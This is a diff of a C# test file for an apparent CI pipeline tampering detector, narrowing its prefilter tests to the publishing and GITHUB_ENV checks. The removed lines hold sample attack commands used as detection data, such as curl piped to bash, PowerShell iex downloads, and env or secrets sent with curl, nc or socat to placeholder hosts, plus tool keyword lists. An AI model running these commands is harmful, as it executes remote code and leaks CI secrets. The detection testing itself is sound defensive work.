@@ -7,25 +7,19 @@ using Xunit;
 namespace PipeWatch.Tests.Detectors.CodeChange.PipelineTampering;
 
 /// <summary>
-/// The checks' prefilters (literals every match of a check's pattern holds) never rule out a script or condition the pattern
+/// The checks' prefilters (literals every match of a check's pattern holds) never rule out a script the pattern
 /// matches, so skipping the pattern where they say no finds exactly what running it everywhere finds.
 /// </summary>
 public sealed class ScriptPrefiltersTests(ITestOutputHelper output)
 {
     // Each prefilter with the pattern it stands before, as the check applies them (publishing reads the joined script).
-    private static readonly string[] Checks =
-    [
-        nameof(DownloadAndExecuteCheck), nameof(SecretsExfiltrationCheck), nameof(TrustedPublishingCheck), nameof(BotConditionsCheck), nameof(GitHubEnvInjectionCheck),
-    ];
+    private static readonly string[] Checks = [nameof(TrustedPublishingCheck), nameof(GitHubEnvInjectionCheck)];
 
     public static TheoryData<string> Prefilters => [.. Checks];
 
     private static (Func<string, bool> MayMatch, Func<string, bool> Matches) For(string check) => check switch
     {
-        nameof(DownloadAndExecuteCheck) => (DownloadAndExecuteCheck.MayMatch, DownloadAndExecuteCheck.Pattern().IsMatch),
-        nameof(SecretsExfiltrationCheck) => (SecretsExfiltrationCheck.MaySend, SecretsExfiltrationCheck.Sending().IsMatch),
         nameof(TrustedPublishingCheck) => (TrustedPublishingCheck.MayPublish, s => TrustedPublishingCheck.Publish().IsMatch(TrustedPublishingCheck.Joined(s))),
-        nameof(BotConditionsCheck) => (BotConditionsCheck.MayTrustBot, BotConditionsCheck.ActorIsBot().IsMatch),
         nameof(GitHubEnvInjectionCheck) => (GitHubEnvInjectionCheck.MayWrite, GitHubEnvInjectionCheck.Write().IsMatch),
         _ => throw new ArgumentOutOfRangeException(nameof(check)),
     };
@@ -33,33 +27,12 @@ public sealed class ScriptPrefiltersTests(ITestOutputHelper output)
     // Real shapes of what each pattern reports, one or more per branch, in the forms attackers write them.
     private static readonly Dictionary<string, string[]> Hits = new()
     {
-        [nameof(DownloadAndExecuteCheck)] =
-        [
-            "curl -fsSL https://get.example.sh | bash", "wget -qO- https://x.io/i.sh | sudo -E sh", "CURL https://x | ZSH",
-            "curl -s https://x/p.py | python3", "wget -O - https://x | node", "bash -c \"$(curl -fsSL https://x/install.sh)\"",
-            "bash <(curl -s https://x)", "source <(wget -qO- https://x)", "x. <(curl https://x)",
-            "iex ((New-Object System.Net.WebClient).DownloadString('https://x'))", "Invoke-Expression (Invoke-WebRequest https://x).Content",
-            "IWR https://x/a.ps1 | IEX", "irm https://x | invoke-expression", "Invoke-RestMethod https://x | iex",
-        ],
-        [nameof(SecretsExfiltrationCheck)] =
-        [
-            "curl -d \"$(env)\" https://x", "wget --post-data \"$(printenv)\" https://x", "curl -X POST -d `env` https://x",
-            "nc x.io 443 <<< \"${{ secrets.NPM_TOKEN }}\"", "curl https://x -d \"$(cat /proc/self/environ)\"",
-            "iwr https://x -Body (Get-ChildItem env: | Out-String)", "env | curl -X POST --data-binary @- https://x",
-            "printenv | base64 | curl -d @- https://x", "echo hi; env | socat - TCP:x:80", "(env | openssl base64) > out",
-            "SOCAT x ${{ secrets.A }}", "Invoke-RestMethod https://x -Body \"$( env )\"",
-        ],
         [nameof(TrustedPublishingCheck)] =
         [
             "npm publish --access public", "pnpm publish -r", "yarn npm publish", "bunx npm publish", "bun publish",
             "cargo publish --token ${{ secrets.CRATES }}", "cargo +nightly publish", "gem push pkg/*.gem", "dotnet nuget push *.nupkg -k $KEY",
             "nuget.exe push a.nupkg", "twine upload dist/*", "twine==5.1.1 upload dist/*", "uv publish", "poetry publish --build",
             "hatch publish", "pdm publish", "twine \\\n  upload dist/*", "gem \\\n    push x.gem",
-        ],
-        [nameof(BotConditionsCheck)] =
-        [
-            "github.actor == 'dependabot[bot]'", "GITHUB.ACTOR == \"renovate[bot]\"", "github['actor'] == 'x[bot]'", "github[\"triggering_actor\"] == '49699333'",
-            "github.actor_id == 49699333", "'dependabot[bot]' == github.actor", "'49699333' == github.triggering_actor",
         ],
         [nameof(GitHubEnvInjectionCheck)] =
         [
@@ -71,26 +44,10 @@ public sealed class ScriptPrefiltersTests(ITestOutputHelper output)
     // Fragments the fuzzer joins: the patterns' own words in several cases, their punctuation, and filler.
     private static readonly Dictionary<string, string[]> Tokens = new()
     {
-        [nameof(DownloadAndExecuteCheck)] =
-        [
-            "curl", "CURL", "wget", "WgEt", "iex", "IEX", "iwr", "irm", "invoke-expression", "Invoke-WebRequest", "invoke-restmethod", "downloadstring",
-            "sh", "bash", "zsh", "fish", "sudo", "-E", "python3", "node", "perl", "|", " ", " ", "\t", "\n", "$(", ")", "<(", "source", ".", "\"", "'",
-            "https://x.y/z", "-fsSL", ";", "&", "(", "echo", "cur", "wge",
-        ],
-        [nameof(SecretsExfiltrationCheck)] =
-        [
-            "curl", "wget", "nc", "ncat", "socat", "iwr", "irm", "Invoke-WebRequest", "base64", "openssl", "env", "ENV", "printenv", "$(", "`", "${{", "secrets.",
-            "SECRETS.", "cat", "/proc/", "get-childitem", "env:", "|", ";", "&", "(", ")", " ", " ", "\n", "-d", "echo", "x",
-        ],
         [nameof(TrustedPublishingCheck)] =
         [
             "npm", "pnpm", "yarn", "bun", "bunx", "cargo", "+nightly", "gem", "dotnet", "nuget", "nuget.exe", "twine", "twine==4.0", "uv", "poetry", "hatch", "pdm",
             "publish", "push", "upload", "Publish", "--dry-run", "-n", " ", " ", "\t", "\n", "#", "\\\n", "\\\n  ", "&&", "echo", "git",
-        ],
-        [nameof(BotConditionsCheck)] =
-        [
-            "github", "GITHUB", ".", "['", "[\"", "']", "\"]", "actor", "ACTOR", "triggering_", "_id", " == ", "==", " ", "'dependabot[bot]'", "\"renovate[bot]\"",
-            "'49699333'", "49699333", "'", "&&", "||", "(", ")", "[bot]",
         ],
         [nameof(GitHubEnvInjectionCheck)] =
         [
@@ -141,15 +98,12 @@ public sealed class ScriptPrefiltersTests(ITestOutputHelper output)
         Assert.True(ruledOut >= 50, $"{ruledOut} ruled out");
     }
 
-    [Theory]
-    [InlineData(nameof(DownloadAndExecuteCheck))]
-    [InlineData(nameof(SecretsExfiltrationCheck))]
-    [InlineData(nameof(BotConditionsCheck))]
-    [InlineData(nameof(GitHubEnvInjectionCheck))]
-    public void The_prefilter_ignores_case_wherever_the_pattern_does(string check)
+    [Fact]
+    public void The_github_env_prefilter_ignores_case_wherever_the_pattern_does()
     {
         // Each letter of a hit replaced by every character the pattern takes for it (Kelvin sign for k, long s, dotted I...):
         // whenever the pattern still matches, so must the prefilter, which matches its literals with the pattern's own options.
+        const string check = nameof(GitHubEnvInjectionCheck);
         var (mayMatch, matches) = For(check);
         var tried = 0;
         var equal = new Dictionary<char, List<char>>();
@@ -175,14 +129,10 @@ public sealed class ScriptPrefiltersTests(ITestOutputHelper output)
     [Fact]
     public void Each_literal_letter_ignores_case_wherever_the_patterns_do()
     {
-        // The (?i) patterns take for each letter exactly the characters the prefilters' ordinal case-insensitive search does, or a
-        // prefilter could skip a script its pattern reports (the Kelvin sign is a k to the patterns and not to the search: no
-        // literal holds a k).
-        string[][] sets =
-        [
-            DownloadAndExecuteCheck.Fetchers, SecretsExfiltrationCheck.SendingTools, SecretsExfiltrationCheck.SentThings, BotConditionsCheck.Actor,
-            GitHubEnvInjectionCheck.WrittenFiles,
-        ];
+        // The (?i) pattern takes for each letter exactly the characters the prefilter's ordinal case-insensitive search does, or the
+        // prefilter could skip a script the pattern reports (the Kelvin sign is a k to the pattern and not to the search: no
+        // literal may hold a k).
+        string[][] sets = [GitHubEnvInjectionCheck.WrittenFiles];
         var equal = new Dictionary<char, List<char>>();
         var tried = 0;
         foreach (var literals in sets)
@@ -203,12 +153,13 @@ public sealed class ScriptPrefiltersTests(ITestOutputHelper output)
             }
         }
 
-        Assert.True(tried > 50, $"{tried} variants");
+        // At least the other case of every letter was tried.
+        Assert.True(tried >= sets.Sum(literals => literals.Sum(l => l.Count(char.IsAsciiLetter))), $"{tried} variants");
         Assert.Contains('\u212A', EqualIgnoringCase('k'));
     }
 
     [Fact]
-    public void Every_corpus_script_condition_and_line_a_pattern_matches_passes_its_prefilter()
+    public void Every_corpus_script_and_line_a_pattern_matches_passes_its_prefilter()
     {
         var texts = 0;
         var ruledOut = 0;
@@ -221,7 +172,6 @@ public sealed class ScriptPrefiltersTests(ITestOutputHelper output)
             if (CiDefinitionParser.Parse(path, text, platform, out _) is { } definition)
             {
                 candidates.AddRange(definition.Steps.SelectMany(Scripts.Of).Select(s => s.Value));
-                candidates.AddRange(Conditions.Of(definition).Select(c => c.Value));
             }
 
             foreach (var candidate in candidates)
@@ -243,11 +193,8 @@ public sealed class ScriptPrefiltersTests(ITestOutputHelper output)
     [Fact]
     public void Ordinary_scripts_and_conditions_are_ruled_out()
     {
-        Assert.False(DownloadAndExecuteCheck.MayMatch("npm ci\nnpm test\nnpm run build"));
-        Assert.False(SecretsExfiltrationCheck.MaySend("echo \"version=$(node -p 'require(`./package.json`).version')\" >> \"$GITHUB_OUTPUT\""));
         Assert.False(TrustedPublishingCheck.MayPublish("git push origin HEAD:main --follow-tags"));
         Assert.False(TrustedPublishingCheck.MayPublish("gh release upload v1 dist/*.tgz"));
-        Assert.False(BotConditionsCheck.MayTrustBot("github.event_name == 'push' && github.ref == 'refs/heads/main'"));
         Assert.False(GitHubEnvInjectionCheck.MayWrite("echo \"version=$VERSION\" >> \"$GITHUB_OUTPUT\""));
         // A word a pattern needs is enough to run it: git push beside gem build may be a gem push.
         Assert.True(TrustedPublishingCheck.MayPublish("gem build x.gemspec\ngit push"));
